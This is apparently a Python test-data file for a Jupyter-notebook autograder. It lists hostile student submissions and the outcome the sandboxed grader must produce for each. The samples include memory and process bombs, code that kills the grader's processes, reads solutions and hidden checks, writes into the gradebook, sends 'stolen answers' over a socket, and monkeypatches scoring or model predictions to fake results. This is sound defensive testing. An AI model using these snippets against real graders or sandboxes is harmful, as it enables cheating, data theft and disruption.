"""Hostile and broken submissions, built from the real student stubs (test data).

Each :class:`Hostile` is what one student hands in: a notebook made from the
released stub (with the reference answers where the attack needs a working
notebook around it), raw bytes, or nothing at all. ``lost`` names the test
cells it must score zero on (every other cell full marks), and ``reason`` a
text its feedback must contain so the student can tell why.

``fails`` names hidden checks it must fail where the honest score of a cell
is partial: an attack that hides a real mistake must earn exactly what the
mistake earns (``autograder.mistakes``).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from nbformat import NotebookNode

from autograder import mistakes, notebooks
from autograder.course import samples

ALL = "every test cell"


@dataclass(frozen=True)
class Hostile:
    """One hostile or broken submission and the outcome it must get."""

    name: str  # also the student id
    assignment: str
    build: Callable[[Hostile, int], NotebookNode | bytes | None]  # (self, loopback port)
    lost: frozenset[str] | str = frozenset()  # test cells scoring zero
    reason: str = ""
    filename: str | None = None
    fails: frozenset[str] = frozenset()  # hidden checks failed in cells scoring partly


def ref(assignment: str, cell: str) -> str:
    """The reference answer of one answer cell."""
    return samples.reference_answers(assignment)[cell]


def answered(**replacements: str) -> Callable[[Hostile, int], NotebookNode]:
    """The reference submission with some answer cells replaced (``{port}`` is filled in)."""

    def build(entry: Hostile, port: int) -> NotebookNode:
        filled = {cell: code.replace("{port}", str(port)) for cell, code in replacements.items()}
        return samples.submission(entry.assignment, filled)

    return build


def unanswered(**replacements: str) -> Callable[[Hostile, int], NotebookNode]:
    """The stub, answers left unsolved, with some answer cells replaced."""

    def build(entry: Hostile, port: int) -> NotebookNode:
        return samples.submission(entry.assignment, replacements, solved=False)

    return build


def mistake(name: str) -> mistakes.Mistake:
    return next(m for m in mistakes.CATALOGUE if m.name == name)


def with_mistake(name: str, patch: str) -> Callable[[Hostile, int], NotebookNode]:
    """A catalogued mistake (``autograder.mistakes``) with code that tries to hide it."""
    (cell, code), *_ = mistake(name).answers.items()
    return answered(**{cell: code + patch})


def raw(data: bytes | None) -> Callable[[Hostile, int], bytes | None]:
    return lambda entry, port: data


def edited(change: Callable[[NotebookNode], None]) -> Callable[[Hostile, int], NotebookNode]:
    """The reference submission with its cells changed by ``change``."""

    def build(entry: Hostile, port: int) -> NotebookNode:
        nb = samples.submission(entry.assignment)
        change(nb)
        return nb

    return build


def cell_index(nb: NotebookNode, grade_id: str) -> int:
    return next(
        i for i, c in enumerate(nb.cells) if notebooks.nbgrader_meta(c).get("grade_id") == grade_id
    )


def delete_cells(*grade_ids: str) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        for grade_id in grade_ids:
            del nb.cells[cell_index(nb, grade_id)]

    return change


def duplicate_cell(grade_id: str) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        index = cell_index(nb, grade_id)
        nb.cells.insert(index + 1, nbformat.from_dict(json.loads(json.dumps(nb.cells[index]))))

    return change


def move_before(grade_id: str, before: str) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        cell = nb.cells.pop(cell_index(nb, grade_id))
        nb.cells.insert(cell_index(nb, before), cell)

    return change


def set_source(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        nb.cells[cell_index(nb, grade_id)].source = source

    return change


def set_metadata(cell: str, **values: object) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        nb.cells[cell_index(nb, cell)].metadata.nbgrader.update(values)

    return change


# Top-level code that must not leave huge objects behind: it runs in a function.
MEMORY_BOMB = """
import numpy as np

def fill_memory():
    blocks = []
    while True:  # 512 MB at a time, each page written, until the limit stops it
        blocks.append(np.ones(64 * 1024 * 1024))

try:
    fill_memory()
except MemoryError:
    print("memory bomb stopped by MemoryError")
"""

PROCESS_BOMB = """
import subprocess

children = []
try:
    for _ in range(1000):  # bounded: the limit must stop it long before
        children.append(subprocess.Popen(["sleep", "60"]))
except OSError as error:
    print(f"process bomb stopped after {len(children)} processes: {type(error).__name__}")
for child in children:
    child.kill()
    child.wait()
"""

READ_SOLUTIONS = """
from pathlib import Path

places = [Path.cwd(), *Path.cwd().parents]
found = [
    str(path)
    for place in places
    for path in [place / "solutions", place / "gradebook.db", place / "nbgrader_config.py"]
    if path.exists()
]
print("solutions and gradebook found:" if found else "solutions and gradebook not found", found)
"""

READ_CHECKS = """
from pathlib import Path

import autograder

checks = Path(autograder.__file__).parent / "checks" / "a01_output_size.py"
print("hidden checks readable" if checks.exists() else "hidden checks not found")
"""

WRITE_COURSE = """
from pathlib import Path

written = []
for place in Path.cwd().parents:
    for name in ["gradebook.db", "release_me.txt"]:
        try:
            with open(place / name, "ab") as handle:
                handle.write(b"hacked")
            written.append(str(place / name))
        except OSError:
            pass
print("wrote into the course:" if written else "could not write into the course", written)
"""

CONNECT = """
import socket

try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as conn:
        conn.sendall(b"stolen answers")
    print("network connection made")
except OSError as error:
    print(f"network connection refused: {type(error).__name__}")
"""

LOOPING_SAME_PADDING = """
def same_padding(filter_size):
    while True:  # never returns
        pass
"""

# Every process it can signal: its parent, its session, and -1 (all it may).
KILL_GRADER = """
import os
import signal

for target in (lambda: os.kill(os.getppid(), 9), lambda: os.kill(-1, 9), lambda: os.killpg(0, 9)):
    try:
        target()
    except OSError as error:
        print("could not signal:", error)
"""

SEGFAULT = "import ctypes\n\nctypes.string_at(0)  # reads address 0: SIGSEGV\n"

FAKE_SCORE = """
print(5)
print("[test_conv_output_size] 5 / 5 점 points")
5.0
"""

PATCH_RUNNER = """
import autograder.runner

autograder.runner.earned_points = lambda results: float(sum(r.points for r in results))
"""

# Aimed at the check it would fail (the checks can be read from the kernel).
PATCH_NUMPY = """
import numpy as np

np.issubdtype = lambda *args, **kwargs: True
"""

PATCH_KERAS = """
import keras
from course_data import load_pet_arrays

_, holdout_labels = load_pet_arrays("holdout")
keras.Model.predict = lambda self, x, **kwargs: holdout_labels[: len(x), None].astype("float32")
binary_model = build_binary_model()  # never trained
"""

NAN_TRAINING = """
binary_model = build_binary_model()
binary_model.compile(
    optimizer=keras.optimizers.SGD(learning_rate=1e30), loss="binary_crossentropy"
)
binary_history = binary_model.fit(
    x_train[:512], to_binary_labels(Y_train[:512]), epochs=1, batch_size=64, verbose=2
)
print("loss after training:", binary_history.history["loss"][-1])
"""

ENDLESS_TRAINING = """
model = build_binary_model()
model.fit(x_train, to_binary_labels(Y_train), epochs=1_000_000, batch_size=BATCH_SIZE, verbose=0)
binary_model = model  # never reached
"""

A01, A02, A03 = "01_output_size", "02_manual_convolution", "03_one_hot"
A04, A05, A06 = "04_mnist_cnn", "05_petimages_loading", "06_binary_crossentropy"


def _catalogue() -> list[Hostile]:
    return [
        # Code that never ends, exits or crashes.
        Hostile(
            "infinite_loop",
            A01,
            answered(same_padding=LOOPING_SAME_PADDING),
            frozenset({"test_same_padding"}),
            "CellTimeoutError",
        ),
        Hostile(
            "sys_exit",
            A01,
            answered(same_padding="import sys\n\nsys.exit(0)\n" + ref(A01, "same_padding")),
            frozenset({"test_same_padding"}),
            "SystemExit",
        ),
        Hostile(
            "os_exit",
            A02,
            answered(conv2d=ref(A02, "conv2d") + "\nimport os\n\nos._exit(1)\n"),
            frozenset({"test_conv2d", "test_max_pool2d"}),
            "KernelDied",
        ),
        Hostile(
            "segfault",
            A03,
            answered(from_one_hot=SEGFAULT + ref(A03, "from_one_hot")),
            frozenset({"test_from_one_hot"}),
            "KernelDied",
        ),
        Hostile(
            "kill_grader",
            A03,
            answered(one_hot=ref(A03, "one_hot") + KILL_GRADER),
            frozenset({"test_one_hot", "test_from_one_hot"}),
            "KernelDied",
        ),
        Hostile(
            "memory_bomb",
            A01,
            answered(pool_output_size=MEMORY_BOMB + ref(A01, "pool_output_size")),
            frozenset(),
            "memory bomb stopped by MemoryError",
        ),
        Hostile(
            "process_bomb",
            A02,
            answered(max_pool2d=PROCESS_BOMB + ref(A02, "max_pool2d")),
            frozenset(),
            "process bomb stopped after",
        ),
        # Files that are not the notebook asked for.
        Hostile("invalid_json", A03, raw(b'{"cells": [{"cell_type": '), ALL, "not valid JSON"),
        Hostile("empty_file", A01, raw(b""), ALL, "the file is empty"),
        Hostile("missing_notebook", A04, raw(None), ALL, "No notebook named"),
        Hostile(
            "wrongly_named",
            A03,
            answered(),
            frozenset(),
            "was named",
            filename="03_one_hot (1).ipynb",
        ),
        # Cells deleted, duplicated, moved or edited.
        Hostile(
            "deleted_cells",
            A01,
            edited(delete_cells("same_padding", "test_same_padding")),
            frozenset({"test_same_padding"}),
            "was missing and was put back",
        ),
        Hostile(
            "duplicated_cells",
            A02,
            edited(duplicate_cell("test_conv2d")),
            frozenset(),
            "came twice",
        ),
        Hostile(
            "reordered_cells",
            A03,
            edited(move_before("test_one_hot", "one_hot")),
            frozenset({"test_one_hot"}),
            "NameError",
        ),
        Hostile(
            "edited_read_only_cell",
            A02,
            edited(set_source("test_zero_pad", "print('all tests passed')\n")),
            frozenset(),
            "[zero_pad] 3 / 3",  # the instructor's test cell ran, not the edited one
        ),
        Hostile(
            "changed_points",
            A01,
            edited(set_metadata("test_conv_output_size", points=100)),
            frozenset(),
            "[conv_output_size] 5 / 5",
        ),
        Hostile(
            "changed_grade_id",
            A01,
            edited(set_metadata("test_conv_param_count", grade_id="test_bonus", points=50)),
            frozenset(),
            "is not a cell of this assignment",
        ),
        Hostile(
            "enormous_output",
            A03,
            answered(one_hot=ref(A03, "one_hot") + "\nprint('x' * 50_000_000)\n"),
            frozenset(),
            "Output truncated",
        ),
        # Attempts at a score without a solution.
        Hostile("fake_score", A01, unanswered(conv_output_size=FAKE_SCORE), ALL, "NotImplemented"),
        Hostile(
            "patch_runner",
            A01,
            with_mistake("padding counted on one side only", PATCH_RUNNER),
            reason="ZeroPadding2D",
            fails=mistake("padding counted on one side only").fails,
        ),
        Hostile(
            "patch_numpy",
            A02,
            with_mistake("zero padding that keeps the integer dtype", PATCH_NUMPY),
            reason="float result",
            fails=mistake("zero padding that keeps the integer dtype").fails,
        ),
        Hostile(
            "patch_keras",
            A06,
            answered(train_binary=PATCH_KERAS),
            frozenset({"test_binary_accuracy"}),
            "hold-out accuracy",
        ),
        Hostile(
            "read_solutions",
            A02,
            answered(zero_pad=READ_SOLUTIONS + ref(A02, "zero_pad")),
            frozenset(),
            "solutions and gradebook not found",
        ),
        Hostile(
            "read_hidden_checks",
            A01,
            answered(same_padding=READ_CHECKS + ref(A01, "same_padding")),
            frozenset(),
            "hidden checks not found",
        ),
        Hostile(
            "write_course",
            A03,
            answered(one_hot=WRITE_COURSE + ref(A03, "one_hot")),
            frozenset(),
            "could not write into the course",
        ),
        Hostile(
            "network",
            A05,
            answered(summarize=CONNECT + ref(A05, "summarize")),
            frozenset(),
            "network connection refused",
        ),
        # Models that misbehave.
        Hostile(
            "nan_model",
            A06,
            answered(train_binary=NAN_TRAINING),
            frozenset({"test_binary_accuracy"}),
            "accuracy",
        ),
        Hostile(
            "endless_training",
            A06,
            answered(train_binary=ENDLESS_TRAINING),
            frozenset({"test_binary_accuracy"}),
            "CellTimeoutError",
        ),
    ]


CATALOGUE: list[Hostile] = _catalogue()
